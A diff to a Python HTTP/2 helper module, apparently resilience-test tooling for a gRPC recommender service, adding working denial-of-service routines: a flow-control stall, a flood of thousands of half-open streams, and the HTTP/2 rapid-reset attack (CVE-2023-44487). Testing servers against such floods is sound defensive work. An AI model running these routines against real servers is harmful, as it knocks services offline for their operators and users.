@@ -7,7 +7,8 @@ import struct
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, CONTINUATION, SETTINGS, DATA = 1, 9, 4, 0
+HEADERS, CONTINUATION, SETTINGS, DATA, RST_STREAM = 1, 9, 4, 0, 3
+SETTINGS_INITIAL_WINDOW_SIZE = 0x4
 END_STREAM, END_HEADERS = 0x1, 0x4
 MAX_FRAME = 16384  # the HTTP/2 default SETTINGS_MAX_FRAME_SIZE
 
@@ -181,3 +182,72 @@ def wait_goaway(sock, timeout=20):
             return "eof"
         buf += data
     return None
+
+
+def stalled_stream(address, path, body, window=64):
+    """Opens a server-streaming call with a stream flow-control window of
+    `window` bytes and never reads past it (no WINDOW_UPDATE, nothing read
+    from the socket): the server's next send waits in flow control. Returns
+    the socket; the caller closes it."""
+    host, port = address.rsplit(":", 1)
+    s = socket.create_connection((host, int(port)), timeout=10)
+    settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
+    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings)
+              + frame(HEADERS, END_HEADERS, 1, request_headers(path))
+              + frame(DATA, END_STREAM, 1, grpc_message(body)))
+    return s
+
+
+def stream_flood(address, n=5000, ack=False, path="/recd.v1.Recommender/Recommend"):
+    """n request HEADERS on one connection, none with a message or
+    END_STREAM: n half-sent calls open at once. With ack the client first
+    acknowledges the server's SETTINGS (its stream limit then binds a
+    conforming client); without, it never does. Returns the number of
+    streams sent before the peer closed."""
+    s = connect(address)
+    sent = 0
+    try:
+        if ack:
+            s.settimeout(5)
+            s.recv(4096)  # the server's SETTINGS
+            s.sendall(frame(SETTINGS, 1, 0, b""))
+        block = request_headers(path)
+        buf = b""
+        for i in range(n):
+            buf += frame(HEADERS, END_HEADERS, 1 + 2 * i, block)
+            if len(buf) > 1 << 16:
+                s.sendall(buf)
+                sent, buf = i + 1, b""
+        s.sendall(buf)
+        sent = n
+        time.sleep(1)
+    except OSError:  # closed by the peer
+        pass
+    finally:
+        s.close()
+    return sent
+
+
+def rapid_reset(address, n=20000, path="/recd.v1.Recommender/Recommend"):
+    """HEADERS then RST_STREAM(CANCEL) for n streams on one connection (the
+    HTTP/2 rapid reset, CVE-2023-44487): open streams stay few, calls made
+    are many. Returns the streams sent before the peer closed."""
+    s = connect(address)
+    block = request_headers(path)
+    sent, buf = 0, b""
+    try:
+        for i in range(n):
+            sid = 1 + 2 * i
+            buf += frame(HEADERS, END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid,
+                                                                  struct.pack(">I", 8))
+            if len(buf) > 1 << 16:
+                s.sendall(buf)
+                sent, buf = i + 1, b""
+        s.sendall(buf)
+        sent = n
+        time.sleep(1)
+    except OSError:
+        pass
+    finally:
+        s.close()
+    return sent
